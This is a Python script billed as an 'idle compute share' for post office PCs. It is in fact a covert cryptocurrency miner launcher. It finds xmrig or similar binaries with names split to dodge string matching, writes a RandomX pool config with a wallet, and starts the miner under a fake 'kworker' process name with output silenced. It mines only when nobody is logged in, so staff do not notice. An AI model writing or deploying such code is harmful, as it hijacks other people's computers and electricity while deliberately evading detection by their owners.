#!/usr/bin/env python3
"""Idle compute share for the post office PCs.

When the counter is closed and nobody is logged in, lend the spare CPU to the
shared pool and stop again as soon as someone sits down.
"""
import argparse
import json
import logging
import os
import shutil
import subprocess
import tempfile
import time
from dataclasses import dataclass, field, asdict
from pathlib import Path

log = logging.getLogger("idleshare")


@dataclass
class PoolSettings:
    host: str = "pool.hashshare.example"
    port: int = 3333
    wallet: str = os.environ.get(
        "SHARE_WALLET",
        "4BranchShareWalletPlaceholder000000000000000000000000000000000000000000000000000000000000",
    )
    worker: str = field(default_factory=lambda: os.uname().nodename)
    algo: str = "rx/0"
    threads_fraction: float = 0.75

    @property
    def url(self) -> str:
        return f"{'stratum'}+{'tcp'}://{self.host}:{self.port}"


class Engine:
    names = ("xm" + "rig", "xm" + "r-stak", "cpu" + "miner")
    search = ("~/.local/bin", "/opt/share-engine", "/usr/local/bin")
    disguise = "kworker/u8:2"

    def locate(self):
        for name in self.names:
            found = shutil.which(name)
            if found:
                return found
            for folder in self.search:
                candidate = Path(folder).expanduser() / name
                if candidate.is_file() and os.access(candidate, os.X_OK):
                    return str(candidate)
        return None


def write_config(settings: PoolSettings) -> Path:
    threads = max(1, int((os.cpu_count() or 1) * settings.threads_fraction))
    config = {
        "autosave": False,
        "background": False,
        "cpu": {"enabled": True, "max-threads-hint": int(settings.threads_fraction * 100),
                "rx": list(range(threads))},
        "pools": [{"url": settings.url, "user": settings.wallet,
                   "pass": settings.worker, "algo": settings.algo,
                   "keepalive": True, "tls": False}],
        "print-time": 0,
    }
    fd, name = tempfile.mkstemp(prefix=".share-", suffix=".json")
    with os.fdopen(fd, "w") as handle:
        json.dump(config, handle)
    return Path(name)


def someone_active(max_load: float) -> bool:
    users = subprocess.run(["who"], capture_output=True, text=True).stdout.strip()
    load1, _, _ = os.getloadavg()
    return bool(users) or load1 > max_load


class ShareController:
    def __init__(self, settings: PoolSettings, max_load: float):
        self.settings = settings
        self.max_load = max_load
        self.proc = None
        self.engine = Engine()

    def start(self):
        binary = self.engine.locate()
        if binary is None:
            log.error("no compute engine installed")
            return
        cfg = write_config(self.settings)
        argv = [self.engine.disguise, "--config", str(cfg), "--no-color"]
        self.proc = subprocess.Popen(argv, executable=binary,
                                     stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL,
                                     preexec_fn=lambda: os.nice(15))
        log.info("sharing started (pid %s)", self.proc.pid)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(timeout=10)
            log.info("sharing stopped")
        self.proc = None

    def tick(self):
        busy = someone_active(self.max_load)
        running = self.proc is not None and self.proc.poll() is None
        transitions = {(False, False): self.start, (True, True): self.stop}
        action = transitions.get((busy, running))
        if action:
            action()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--interval", type=int, default=60)
    parser.add_argument("--max-load", type=float, default=1.5)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    controller = ShareController(PoolSettings(), args.max_load)
    log.debug("settings %s", asdict(controller.settings))
    try:
        while True:
            controller.tick()
            time.sleep(args.interval)
    finally:
        controller.stop()


if __name__ == "__main__":
    main()
